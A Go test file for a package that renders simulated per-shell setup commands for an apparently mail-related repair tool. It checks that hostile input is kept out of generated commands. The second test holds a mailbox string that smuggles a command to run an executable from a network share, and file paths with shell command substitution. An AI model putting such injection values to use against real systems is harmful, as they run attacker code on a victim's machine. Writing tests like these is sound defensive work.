package view

import (
	"strings"
	"testing"
)

// Each shell gets the line of its own, and then the verb.
func TestSimulatedForEachShell(t *testing.T) {
	p := newPage(false)
	Simulated{Mailbox: "scanner@contoso.com", EndpointFile: `C:\lab\endpoints.json`, Shells: []Shell{{"PowerShell", "env.ps1", "Get-Content env.ps1 | Invoke-Expression"}, {"cmd.exe", "env.cmd", ""}}}.text(p, everything)
	for _, want := range []string{"PowerShell:\n    Get-Content env.ps1 | Invoke-Expression\n", "Have the shell read env.cmd\n", "\n    smtpmend fix scanner@contoso.com --cloud-file \"C:\\lab\\endpoints.json\"\n"} {
		if !strings.Contains(p.String(), want) {
			t.Errorf("lacks %q:\n%s", want, p)
		}
	}
}

// A mailbox that a shell could take for more than a word is in no command.
func TestSimulateHostileMailbox(t *testing.T) {
	p := newPage(false)
	Simulated{Mailbox: "scanner’|&{//10.0.0.66/s/x.exe}#@contoso.com", Shells: []Shell{{File: "/lab/env", Line: ". /lab/env"}}}.text(p, everything)
	if strings.Contains(p.String(), "fix scanner") || !strings.Contains(p.String(), "fix MAILBOX") {
		t.Error(p)
	}
	p = newPage(false) // without its file it would be the real cloud's
	Simulated{Mailbox: "scanner@contoso.com", EndpointFile: "/$(x)/endpoints.json", Shells: []Shell{{File: "/$(x)/env"}}}.text(p, everything)
	if strings.Contains(p.String(), "fix scanner") {
		t.Error(p)
	}
}
